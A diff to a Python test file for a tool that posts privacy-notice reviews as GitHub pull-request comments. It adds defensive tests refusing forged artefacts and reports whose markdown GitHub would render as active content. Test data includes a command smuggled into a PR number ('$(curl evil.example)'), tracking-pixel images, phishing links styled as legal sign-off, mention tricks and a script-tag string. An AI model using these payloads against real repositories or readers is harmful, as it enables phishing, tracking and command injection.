@@ -16,8 +16,9 @@ from urllib.parse import parse_qs, urlsplit
 
 import pytest
 
-from conftest import git, run
+from conftest import copy_project, git, run
 from generator.pr_comment import LIMIT, MARKER
+from test_inert_markdown import shown_active
 from test_workflow import comment_workflow, hand_over_artefact, pull_request_base, step_env, steps
 
 TOKEN = "ghs_test-token"
@@ -152,6 +153,19 @@ def test_the_comment_is_found_past_the_first_page_and_cut_to_githubs_limit(githu
     assert len(github.on(7)) == 151
     assert len(ours["body"]) <= LIMIT and ours["body"].startswith(f"{MARKER}\n# Privacy notice review")
     assert ours["body"].rstrip().endswith("The whole report is in the job summary.)*")
+
+
+def test_a_report_cut_to_githubs_limit_is_cut_between_lines():
+    """Cut inside a line, a code span lost its closing backticks and opened a fence: GitHub showed
+    the rest, the line saying it is cut included, as math (or a map, or a diagram)."""
+    from generator.pr_comment import CUT, comment_body
+
+    fence = "```math \\huge\\text{APPROVED} " + "x " * 200 + "```"
+    report = "# Privacy notice review\n\n" + "word\n" * ((LIMIT - 300) // 5) + fence + "\n"
+    assert shown_active(report) == "" and len(report) > LIMIT  # whole, the fence is a code span
+    body = comment_body(report)
+    assert len(body) <= LIMIT and body.endswith(CUT) and shown_active(body) == "", body[-300:]
+    assert body.removesuffix(CUT).endswith("\nword") and "```" not in body
 
 
 def test_a_refused_or_misdirected_comment_is_one_line(github, actions_env, tmp_path, monkeypatch):
@@ -443,6 +457,17 @@ def _forged(case: str, folder: Path) -> Path:
         return artefact(folder, number="7$(curl evil.example)\n")
     if case == "huge number":
         return artefact(folder, number="7" * 100)
+    if case == "a folder for the report":  # a zip holding review.md/x unpacks as one
+        artefact(folder)
+        (folder / "review.md").unlink()
+        (folder / "review.md").mkdir()
+        (folder / "review.md" / "x").write_text("x\n")
+        return folder
+    if case == "a pipe for the report":
+        artefact(folder)
+        (folder / "review.md").unlink()
+        os.mkfifo(folder / "review.md")
+        return folder
     if case == "a link for a folder":
         artefact(folder.parent / "elsewhere")
         folder.symlink_to(folder.parent / "elsewhere")
@@ -452,7 +477,7 @@ def _forged(case: str, folder: Path) -> Path:
 
 @pytest.mark.parametrize("case", ["huge", "no heading", "marker", "control character", "not UTF-8", "link",
                                   "extra file", "no number", "number with a command", "huge number",
-                                  "a link for a folder"])
+                                  "a link for a folder", "a folder for the report", "a pipe for the report"])
 def test_a_forged_or_huge_artefact_is_refused_before_github_is_called(github, actions_env, tmp_path, case):
     """Whatever the pull request's run uploaded is refused unless it is what
     noticegen review writes: one line naming the file, exit 1, no call."""
@@ -463,6 +488,70 @@ def test_a_forged_or_huge_artefact_is_refused_before_github_is_called(github, ac
     assert "nothing was posted" in result.err and str(folder) in result.err, result.err
     assert SECRET not in result.err + result.out and "evil" not in result.err
     assert not github.requests
+
+
+# What a forged report made GitHub show in the comment, posted by the workflow's account: name, payload,
+# and whether cmark-gfm shows it (math and alerts are GitHub's own, past cmark-gfm).
+PAYLOADS = [
+    ("an image that tells its server who read the pull request, and when", "![](https://track.example/p.png?pr=7)"),
+    ("an image in HTML", '<img src="https://track.example/p.png">'),
+    ("a link dressed as a sign-off", "[Legal has signed off: merge](https://evil.example/login)"),
+    ("a link by reference", "[Legal has signed off][1]\n\n[1]: https://evil.example/login"),
+    ("an address GitHub makes a link", "Sign in at https://evil.example/login"),
+    ("a www address", "See www.evil.example"),
+    ("an email address", "Write to legal@evil.example"),
+    ("a mention of a team and a person", "cc @acme/legal @octocat"),
+    ("a mention behind a character reference", "cc &#64;octocat"),
+    ("a mention behind an escape", "cc \\@octocat"),
+    ("a reference to another repository's issue", "See acme/other#1"),
+    ("a mention a table row splits out of a code span", "| a | b |\n| --- | --- |\n| `x | @octocat ` | y |"),
+    ("an image in an HTML block, where escapes do not count", "<sub>\n\\<img src=https://track.example/p.png\\>"),
+    ("a verdict hidden in a details", "<details><summary>Minor change</summary>\n\n**Significant**\n</details>"),
+    ("math", "$$\\huge\\text{APPROVED BY LEGAL}$$"),
+    ("a map, drawn from a fenced block", '```geojson\n{"type": "Point", "coordinates": [0, 0]}\n```'),
+    ("an alert", "> [!IMPORTANT]\n> Legal has signed off."),
+]
+
+
+@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[name for name, _ in PAYLOADS])
+def test_a_report_that_github_would_show_as_more_than_text_is_refused(github, actions_env, tmp_path, payload):
+    """The pull request's own code may write the report, and the workflow's account posted it as it was:
+    an image fetched by every reader's page, a link to a sign-in page, @acme/legal paged in the
+    repository's name. What noticegen review writes is text (its author text escaped): the rest is
+    refused, naming the line, and nothing is posted."""
+    github.heads = {7: HEAD_SHA}
+    if not payload.startswith(("$$", "> [!")):  # what cmark-gfm cannot show GitHub shows all the same
+        assert shown_active(payload), payload  # the payload is a real one
+    report = f"# Privacy notice review\n\nFrom the pull request's run.\n\n{payload}\n"
+    folder = artefact(tmp_path / "review", report)
+    result = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path)
+    assert result.code == 1 and result.err.count("\n") == 1 and "Traceback" not in result.err, result
+    line = re.search(r"review\.md:(\d+): (.*), which noticegen review never writes; nothing was posted", result.err)
+    assert line and 5 <= int(line[1]) <= 5 + payload.count("\n"), result.err
+    assert not github.requests
+
+
+def test_a_review_of_hostile_author_text_is_posted_and_shows_as_text(github, actions_env, tmp_path):
+    """What review writes of titles made to be links, images, HTML and mentions passes, and shows as written."""
+    project = copy_project(tmp_path / "project")
+    hostile = ["[x](javascript:y)", "<script>alert(1)</script>", "Visit https://evil.example or www.evil.example",
+               "![img](https://evil.example/x.png) | a | b", "<b>b</b> &amp; ~~no~~ $x$ &#64;x",
+               "Thanks @acme/legal and @octocat, see #12 and a@b.example", "`x | @octocat` <sub>", ":shipit:"]
+    old, new = tmp_path / "old.md", tmp_path / "new.md"
+    old.write_text("# Notice\n\n## Use\n\nWe use your data.\n")
+    new.write_text("# Notice\n\n## Use\n\nWe use your data.\n\n"
+                   + "".join(f"## {title}\n\nWe share data with partners.\n\n" for title in hostile))
+    folder = tmp_path / "review"
+    folder.mkdir()
+    reviewed = run("review", str(old), str(new), "--site", "www.compucom.com", "--output", str(folder / "review.md"),
+                   cwd=project)
+    assert reviewed.code == 4, reviewed.err
+    (folder / "pull-request.txt").write_text("7\n")
+    github.heads = {7: HEAD_SHA}
+    posted = run("comment", "--artifact", str(folder), "--head-sha", HEAD_SHA, cwd=tmp_path)
+    assert posted.code == 0, posted
+    (comment,) = github.on(7)
+    assert shown_active(comment["body"].removeprefix(MARKER)) == "" and "octocat" in comment["body"]
 
 
 def test_a_loopback_api_is_called_directly_while_a_proxy_is_set(github, actions_env, tmp_path, monkeypatch):
